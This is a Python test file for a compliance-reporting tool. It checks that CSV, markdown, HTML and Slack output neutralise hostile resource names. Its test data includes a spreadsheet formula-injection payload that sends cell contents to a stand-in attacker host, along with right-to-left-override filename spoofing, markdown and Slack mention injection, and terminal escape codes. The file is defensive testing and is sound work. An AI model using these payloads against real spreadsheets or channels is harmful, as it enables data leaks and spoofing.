"""Hostile names through the real writers: CSV cells cannot start a formula, markdown rows and headings stay
whole, bidi and control characters never reach the HTML report or Slack (issue 16, "encoding fixed once")."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from complyflow.core.model import Finding, Status
from complyflow.core.text import clean, csv_cell, md_cell, md_code, md_text
from tasks.access_review import COLUMNS, access_review_csv
from tasks.artifacts import violations_markdown
from tasks.exceptions import apply_exceptions
from tasks.findings import CSV_COLUMNS, findings_csv
from tasks.notify.blocks import as_text, header, item_line
from tasks.notify.changes import Category, Change, Item
from tasks.notify.routing import Route
from tasks.notify.summary import summary_blocks
from tasks.report.html import render_run_report
from tasks.report.posture import framework_mapping, posture
from tasks.report.trend import RunPoint, Trend
from tests.report.factory import STARTED, control, finding, register, summary

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "\u202egnp.exe" displays as "exe.png"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'

#: (hostile text, what a CSV cell holds): only a formula start is touched, everything else is exact data.
CSV_CASES = [
    (HYPERLINK, "'" + HYPERLINK),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-1", "'-1"),
    ("+1", "'+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("", ""),
    ("a|b", "a|b"),
    ("x\n# heading", "x\n# heading"),
    (f"{RLO}gnp.exe", f"{RLO}gnp.exe"),
    ("a`b", "a`b"),
    ("plain-name", "plain-name"),
    (" =1", " =1"),
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- the helpers ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "cell"), [*CSV_CASES, (None, None), (-1, -1), (1.5, 1.5), (True, True)])
def test_csv_cell_guards_formula_starts_only(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_clean_removes_bidi_and_control_characters() -> None:
    assert clean(f"{RLO}gnp.exe") == "gnp.exe"
    assert clean(f"a{BIDI}b") == "ab"
    assert clean("a\x00b\x07c\x1bd\x7fe\x9bf") == "abcdef"
    assert clean("x\n# heading") == "x # heading"
    assert clean("a\r\nb\rc\td\u2028e\x85f") == "a b c d e f"
    assert clean("a\r\nb\rc\td\u2028e\x00", keep_newlines=True) == "a\nb\nc d\ne"
    assert clean(None) == "" and clean(42) == "42"
    assert clean("café – naïve 日本") == "café – naïve 日本"  # ordinary text is left alone


@pytest.mark.parametrize(
    ("text", "code", "cell"),
    [
        ("bucket-a", "`bucket-a`", "`bucket-a`"),
        ("a|b", "`a|b`", "`a\\|b`"),
        ("x\n# heading", "`x # heading`", "`x # heading`"),
        (f"{RLO}gnp.exe", "`gnp.exe`", "`gnp.exe`"),
        ("a`b", "``a`b``", "``a`b``"),
        ("a``b`", "``` a``b` ```", "``` a``b` ```"),
        ("`tick`", "`` `tick` ``", "`` `tick` ``"),
        (" padded ", "`  padded  `", "`  padded  `"),
        ("<b>&amp;</b>", "`<b>&amp;</b>`", "`<b>&amp;</b>`"),
        ("", "", ""),
        (None, "", ""),
    ],
)
def test_markdown_code_spans_hold_any_name(text: object, code: str, cell: str) -> None:
    assert md_code(text) == code
    assert md_cell(text) == cell


def test_markdown_text_escapes_inline_markup_on_one_line() -> None:
    assert md_text("x\n# heading") == "x \\# heading"
    assert md_text("a|b") == "a\\|b"
    assert md_text("*bold* [l](u) <b> & `c` ~s~ \\") == "\\*bold\\* \\[l\\]\\(u\\) \\<b\\> \\& \\`c\\` \\~s\\~ \\\\"


# --- CSV files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "cell"), CSV_CASES)
def test_findings_csv_guards_every_untrusted_cell(name: str, cell: str) -> None:
    hostile = finding("c-enc", Status.FAIL, name, owner=name, observed=name, message=name)
    [row] = _rows(findings_csv([hostile]))
    assert list(row) == CSV_COLUMNS
    assert (row["resource_name"], row["owner"], row["observed"], row["message"]) == (cell, cell, cell, cell)


def test_findings_csv_leaves_empty_cells_empty() -> None:
    plain = finding("c-enc", Status.PASS, "bucket", message="", exception_id="", owner_route="")
    [row] = _rows(findings_csv([plain]))
    assert (row["message"], row["exception_id"], row["owner_route"], row["notify_route"]) == ("", "", "", "")
    assert "'" not in findings_csv([plain])
    absent = finding("c-enc", Status.PASS, "bucket", message=None)
    assert _rows(findings_csv([absent]))[0]["message"] == ""


def _principal(name: object, owner: object, **extra: object) -> dict[str, object]:
    values: dict[str, object] = {
        "owner": owner,
        "account": "111111111111",
        "resource_type": "AwsIamUser",
        "resource_name": name,
        "resource_arn": f"arn:aws:iam::111111111111:user/{name}",
        "is_admin": False,
        "admin_via": "",
        "groups": "",
        "attached_policies": "",
        "inline_policies": "",
        "last_activity": None,
        "inactive_days": None,
    }
    return values | extra


@pytest.mark.parametrize(("name", "cell"), CSV_CASES)
def test_access_review_csv_guards_every_untrusted_cell(name: str, cell: str) -> None:
    frame = pd.DataFrame([_principal(name, name, groups=name, inactive_days=-3)])
    [row] = _rows(access_review_csv(frame))
    assert list(row) == COLUMNS
    assert (row["resource_name"], row["owner"], row["groups"]) == (cell, cell, cell)
    assert row["inactive_days"] == "-3"  # a number is data, not a formula
    # empty and missing cells stay empty: no stray apostrophes
    assert (row["admin_via"], row["attached_policies"], row["last_activity"]) == ("", "", "")


# --- markdown artifacts --------------------------------------------------------------------------


def _violation_lines(findings: list[Finding]) -> list[str]:
    return violations_markdown(summary(findings), findings).split("\n")


def test_markdown_rows_and_headings_stay_whole() -> None:
    names = ["a|b", "x\n# injected", f"{RLO}gnp.exe", "a`b", HYPERLINK, "`tick`"]
    findings = [
        finding("c-enc", Status.FAIL, name, owner=owner, observed=f"ok = {name}", expected="ok | True")
        for name, owner in zip(
            names, ["team|a", "team\n# injected", "team-a", "team-a", "team-a", "team-a"], strict=True
        )
    ]
    lines = _violation_lines(findings)
    headings = [line for line in lines if line.startswith("#")]
    assert headings == [
        "# Violations in run 20261129T020000Z-aaaaaa",
        "## `team # injected`",
        "## `team-a`",
        "## `team|a`",
    ]
    rows = [line for line in lines if line.startswith("| FAIL")]
    assert rows == [
        "| FAIL | c-enc | `x # injected` | eu-west-1 | `ok = x # injected` | `ok \\| True` |",
        '| FAIL | c-enc | `=HYPERLINK("https://evil.example/?"&A1,"click")` | eu-west-1 | '
        '`ok = =HYPERLINK("https://evil.example/?"&A1,"click")` | `ok \\| True` |',
        "| FAIL | c-enc | `` `tick` `` | eu-west-1 | `` ok = `tick` `` | `ok \\| True` |",
        "| FAIL | c-enc | ``a`b`` | eu-west-1 | ``ok = a`b`` | `ok \\| True` |",
        "| FAIL | c-enc | `gnp.exe` | eu-west-1 | `ok = gnp.exe` | `ok \\| True` |",
        "| FAIL | c-enc | `a\\|b` | eu-west-1 | `ok = a\\|b` | `ok \\| True` |",
    ]
    for row in rows:  # six cells per row: every pipe that is not a cell border is escaped
        assert len(re.findall(r"(?<!\\)\|", row)) == 7
    assert RLO not in "\n".join(lines)


def test_markdown_owner_without_a_name_still_has_a_heading() -> None:
    lines = _violation_lines([finding("c-enc", Status.ERROR, "b", owner="")])
    assert "## (no owner)" in lines


# --- HTML report ---------------------------------------------------------------------------------


def _render(findings: list[Finding]) -> str:
    controls = [control("c-enc")]
    reg = register()
    outcome = apply_exceptions(findings, reg, STARTED.date())
    run = summary(outcome.findings)
    current = posture(outcome.findings, framework_mapping(controls), ["c-enc"])
    return render_run_report(
        summary=run,
        findings=outcome.findings,
        controls=controls,
        outcome=outcome,
        register=reg,
        gaps=[],
        current=current,
        trend=Trend(points=[RunPoint(run.run_id, run.started_at, run.flow, current)]),
    )


def test_html_report_drops_bidi_and_controls_and_keeps_escaping() -> None:
    findings = [
        finding(
            "c-enc",
            Status.FAIL,
            f"{RLO}gnp.exe",
            owner=f"team{RLO}\x1b[31m",
            observed="ok = <b>\u2066x\u2069</b>",
        ),
        finding("c-enc", Status.ERROR, "a|b\x00", message=f"denied\n{RLO}# heading\x07"),
    ]
    text = _render(findings)
    assert not set(BIDI) & set(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
    assert "<td>gnp.exe</td>" in text
    assert "<h3>team[31m <span class=muted>(1)</span></h3>" in text
    assert "<td>ok = &lt;b&gt;x&lt;/b&gt;</td>" in text
    assert "<td>a|b</td>" in text
    assert "<td>denied\n# heading</td>" in text


# --- Slack ---------------------------------------------------------------------------------------


def _item(name: str, **extra: object) -> Item:
    values: dict[str, object] = {
        "key": f"c-enc|111111111111|eu-west-1|{name}",
        "change": Change.NEW,
        "category": Category.VIOLATION,
        "owner": "team-a",
        "route": Route("#team-a", "fallback"),
        "control_id": "c-enc",
        "control_title": "Title of c-enc",
        "severity": "high",
        "remediation": "Fix it.",
        "resource_name": name,
        "resource_arn": f"arn:aws:s3:::{name}",
        "account": "111111111111",
        "region": "eu-west-1",
        "status": "FAIL",
        "observed": f"ok = {name}",
        "expected": "ok = True",
    }
    return Item(**(values | extra))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        (f"{RLO}gnp.exe", "`gnp.exe`"),
        ("x\n# heading", "`x # heading`"),
        ("a|b", "`a|b`"),
        ("a`b", "`aˋb`"),
        ("<!channel> & <https://evil.example|x>", "`&lt;!channel&gt; &amp; &lt;https://evil.example|x&gt;`"),
        (HYPERLINK, '`=HYPERLINK("https://evil.example/?"&amp;A1,"click")`'),
        ("", "`(empty)`"),
    ],
)
def test_slack_item_lines_are_clean_and_escaped(name: str, shown: str) -> None:
    line = item_line(_item(name, region=f"eu-west-1{RLO}", account="1111\u2066"))
    assert line == f"• {shown} · eu-west-1 · 1111\n      observed {_observed(shown)} · expected `ok = True`"


def _observed(shown: str) -> str:
    return "`ok =`" if shown == "`(empty)`" else shown.replace("`", "`ok = ", 1)


def test_slack_gap_messages_and_headers_are_clean() -> None:
    gap = _item("b", category=Category.GAP, message=f"denied{RLO}\n> quote\x1b")
    assert item_line(gap).endswith("\n      denied &gt; quote")
    assert header(f"Compliance digest: {RLO}team\n<!here>")["text"]["text"] == "Compliance digest: team ‹!here›"


def test_slack_summary_owners_are_clean() -> None:
    findings = [finding("c-enc", Status.FAIL, "b", owner=f"{RLO}evil\n• fake: 0 open")]
    blocks, text, _ = summary_blocks(summary(findings), findings, [], {})
    rendered = as_text(blocks)
    assert "• evil • fake: 0 open: 1 open" in rendered
    assert not set(BIDI) & set(rendered + text)


def test_console_text_of_a_digest_shows_no_html_entities() -> None:
    """Slack needs `&lt;`; a terminal shows `<`: `expected age_days <= 90`, not `&lt;=`."""
    gap = _item("b", category=Category.GAP, message="age_days <= 90 & more > less")
    rendered = as_text([{"type": "section", "text": {"type": "mrkdwn", "text": item_line(gap)}}])
    assert "age_days <= 90 & more > less" in rendered and "&lt;" not in rendered and "&amp;" not in rendered
